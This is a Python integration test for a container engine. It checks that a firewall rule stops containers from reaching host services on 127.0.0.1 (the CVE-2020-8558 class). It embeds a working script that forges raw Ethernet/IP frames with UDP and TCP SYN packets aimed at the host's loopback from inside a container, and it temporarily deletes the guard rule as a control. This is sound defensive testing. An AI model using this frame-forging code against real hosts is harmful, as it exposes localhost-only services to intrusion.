"""CVE-2020-8558 class: a container must not reach host services bound to 127.0.0.1.

Our bridges have route_localnet=1 (published ports answer on 127.0.0.1), which also makes the
host accept frames from a container that are addressed to 127.0.0.0/8 and sent to the
gateway's MAC. A default container has CAP_NET_RAW, so it can build such a frame itself. The
firewall drops everything arriving on our bridges for 127.0.0.0/8 (runtime.network.firewall,
chain loopback_guard). Here a real container (the engine, busybox) is the sender: the frames
are written with a packet socket in its network namespace, a UDP datagram to a host UDP
listener on 127.0.0.1 and a TCP SYN to a host TCP listener there. With the guard nothing
arrives; with the guard's rule deleted (the control) the same frames do arrive, and with the
table re-applied they are dropped again: the rule is what blocks them.
"""
from __future__ import annotations

import asyncio
import socket
import subprocess
from pathlib import Path

from runtime.api import NetworkInfo
from runtime.engine import Engine
from runtime.network.names import mac_from_ip
from runtime.types import ContainerSpec, NetworkAttachment, NetworkSpec
from tests.integration.engine.conftest import engine  # noqa: F401  (the fixture)

CAP_NET_RAW = 13

# argv: ifname src_mac dst_mac src_ip proto(udp|tcp) dport wait_seconds gateway
SEND = r"""
import random, socket, struct, sys, time
ifname, smac, dmac, sip, proto, dport, wait, gateway = sys.argv[1:9]
dport, wait = int(dport), float(wait)
# any ordinary packet to the gateway first, as a container's traffic does: the host learns our
# MAC from the ARP exchange (its own ARP request for us would carry 127.0.0.1 as the sender
# address, which we would ignore, and the SYN-ACK would never leave)
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"hello", (gateway, 9))
time.sleep(0.05)

def csum(b):
    b += b"\0" * (len(b) % 2)
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xFFFF)
    return ~(s + (s >> 16)) & 0xFFFF

src, dst = socket.inet_aton(sip), socket.inet_aton("127.0.0.1")
sport = random.randint(40000, 60000)
if proto == "udp":
    body = b"cve-2020-8558"
    l4, num = struct.pack("!HHHH", sport, dport, 8 + len(body), 0) + body, 17
else:
    hdr = struct.pack("!HHIIBBHHH", sport, dport, random.getrandbits(32), 0, 5 << 4, 0x02, 64240, 0, 0)
    c = csum(src + dst + struct.pack("!BBH", 0, 6, len(hdr)) + hdr)
    l4, num = hdr[:16] + struct.pack("!H", c) + hdr[18:], 6
ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(l4), random.getrandbits(16), 0x4000, 64, num, 0, src, dst)
ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
eth = bytes.fromhex(dmac.replace(":", "")) + bytes.fromhex(smac.replace(":", "")) + b"\x08\x00"
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
s.bind((ifname, 0))
s.send(eth + ip + l4)
print("sent")
if proto == "tcp":  # a SYN-ACK back means the host's listener answered
    s.settimeout(0.1)
    end = time.monotonic() + wait
    while time.monotonic() < end:
        try:
            frame, addr = s.recvfrom(4096)
        except socket.timeout:
            continue
        pkt = frame[14:]
        if addr[2] == socket.PACKET_OUTGOING or pkt[9] != 6:
            continue
        tcp = pkt[(pkt[0] & 15) * 4:]
        sp, dp = struct.unpack("!HH", tcp[:4])
        if (sp, dp) == (dport, sport) and tcp[13] & 0x12 == 0x12:
            print("syn-ack")
            break
"""


async def send_frame(pid: int, proto: str, port: int, ip: str, net: NetworkInfo, wait: float = 1.5) -> str:
    """From the netns of `pid` (address `ip` on `net`): one hand-made frame to the gateway's
    MAC, addressed to 127.0.0.1:port; for TCP, what came back."""
    dmac = Path(f"/sys/class/net/{net.bridge}/address").read_text().strip()
    proc = await asyncio.create_subprocess_exec(
        "nsenter", "-t", str(pid), "-n", "python3", "-c", SEND, "eth0", mac_from_ip(ip), dmac, ip, proto,
        str(port), str(wait), net.gateway, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE)
    out, err = await proc.communicate()
    assert proc.returncode == 0 and b"sent" in out, err.decode()
    return out.decode()


async def udp_arrives(listener: socket.socket, pid: int, ip: str, net: NetworkInfo) -> bool:
    await send_frame(pid, "udp", listener.getsockname()[1], ip, net)
    loop = asyncio.get_running_loop()
    try:
        data = await asyncio.wait_for(loop.sock_recv(listener, 100), 1.5)
    except TimeoutError:
        return False
    assert data == b"cve-2020-8558"
    return True


async def syn_answered(listener: socket.socket, pid: int, ip: str, net: NetworkInfo) -> bool:
    return "syn-ack" in await send_frame(pid, "tcp", listener.getsockname()[1], ip, net)


def guard_handles(table: str, bridge: str) -> list[str]:
    out = subprocess.run(["nft", "-a", "list", "chain", "ip", table, "loopback_guard"],
                         capture_output=True, text=True, check=True).stdout
    return [line.rsplit("# handle ", 1)[1] for line in out.splitlines()
            if f'iifname "{bridge}" ip daddr 127.0.0.0/8 drop' in line]


async def test_container_cannot_reach_host_loopback(engine: Engine) -> None:  # noqa: F811
    net = await engine.create_network(NetworkSpec(name="it_lguard"))
    await engine.create_container(ContainerSpec(
        name="it-lguard-1", image="busybox", command=("sleep", "120"),
        networks=(NetworkAttachment("it_lguard"),)))
    c = await engine.start_container("it-lguard-1")
    ip = c.addresses["it_lguard"]
    # the preconditions of the attack: route_localnet on our bridge, NET_RAW in a default container
    assert Path(f"/proc/sys/net/ipv4/conf/{net.bridge}/route_localnet").read_text().strip() == "1"
    cap_eff = next(line for line in Path(f"/proc/{c.pid}/status").read_text().splitlines()
                   if line.startswith("CapEff:"))
    assert int(cap_eff.split()[1], 16) & (1 << CAP_NET_RAW)

    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    tcp = socket.socket()
    udp.bind(("127.0.0.1", 0))
    tcp.bind(("127.0.0.1", 0))
    tcp.listen()
    udp.setblocking(False)
    try:
        # guarded: nothing arrives
        assert not await udp_arrives(udp, c.pid, ip, net)
        assert not await syn_answered(tcp, c.pid, ip, net)
        # control: the same frames without the guard's rule do arrive
        handles = guard_handles(engine.networks.table, net.bridge)
        assert len(handles) == 1
        subprocess.run(["nft", "delete", "rule", "ip", engine.networks.table, "loopback_guard",
                        "handle", handles[0]], check=True)
        assert await udp_arrives(udp, c.pid, ip, net)
        assert await syn_answered(tcp, c.pid, ip, net)
        # re-rendered (every `up` creates its networks again): guarded again
        await engine.create_network(NetworkSpec(name="it_lguard"))
        assert len(guard_handles(engine.networks.table, net.bridge)) == 1
        assert not await udp_arrives(udp, c.pid, ip, net)
        assert not await syn_answered(tcp, c.pid, ip, net)
    finally:
        udp.close()
        tcp.close()
        await engine.remove_container("it-lguard-1", force=True)
        await engine.remove_network("it_lguard")
